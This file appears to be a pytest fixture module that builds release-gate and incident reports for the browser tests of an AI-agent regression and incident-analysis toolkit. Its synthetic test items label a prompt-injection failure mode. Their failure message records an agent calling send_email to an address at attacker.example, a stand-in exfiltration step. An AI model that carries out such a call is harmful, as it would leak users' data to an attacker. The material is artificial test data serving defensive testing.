"""Builders of the two HTML reports the browser tests open."""

from __future__ import annotations

from pathlib import Path

import pytest

from incident_lab.blast import blast_radius, write_result
from incident_lab.blast.signature import load_signature
from incident_lab.evidence import take_snapshot
from incident_lab.example.traffic import generate_log
from incident_lab.report import write_report
from incident_lab.report.collect import collect_report
from regression_suite.gate import finalize
from regression_suite.history import record_report
from regression_suite.reports import write_reports


def _item(sid: str, outcome: str, release: str, variant: str | None = None) -> dict:
    return {
        "id": f"{sid}[{variant or 'orig'}]",
        "scenario_id": f"{sid}--{variant}" if variant else sid,
        "parent_id": sid if variant else None,
        "variant": {"converters": [variant], "seed": 1} if variant else None,
        "repeat": 1,
        "failure_mode": "prompt_injection",
        "severity": "SEV-1",
        "tags": [],
        "outcome": outcome,
        "results": [],
        "message": None
        if outcome == "passed"
        else f"{sid}: send_email(to=x@attacker.example) at step 3",
        "diff": None,
        "duration_s": 0.002,
        "target": release,
    }


@pytest.fixture(scope="session")
def gate_report_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A gate report (BLOCK) of the third recorded release, with its history trend."""
    base = tmp_path_factory.mktemp("gate")
    db = base / "history.sqlite"
    report = None
    for n, release in enumerate(["v1", "v2", "v3"]):
        items = [_item("inc-mail", "passed" if n < 2 else "failed", release)]
        items += [
            _item("inc-mail", "failed" if i < n + 1 else "passed", release, f"conv{i}")
            for i in range(4)
        ]
        report = finalize(
            items,
            suite={"name": "release_gate", "path": "suites/release_gate.yaml"},
            target={"spec": f"example:{release}", "version": release},
            options={"history_db": str(db)},
        )
        report["versions"]["target"] = release
        record_report(report, db)
    assert report is not None
    write_reports(report, base / "report")
    return base / "report"


@pytest.fixture(scope="session")
def incident_report_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """An incident bundle from the example agent's traffic, with blast radius and report."""
    base = tmp_path_factory.mktemp("incident")
    log = generate_log(
        base / "log.jsonl", sessions=80, incidents=3, seed=7, start="2026-02-01T06:00:00Z"
    )
    take_snapshot(
        [str(log["path"])], out=base / "bundle", sessions=[log["incident_session_ids"][0]]
    )
    sig = load_signature(str(base / "bundle"))
    write_result(blast_radius(sig, [str(log["path"])]), base / "bundle" / "followup")
    doc = collect_report(base / "bundle", scenarios_dir=base / "no-scenarios")
    write_report(doc, base / "bundle" / "followup")
    return base / "bundle" / "followup"
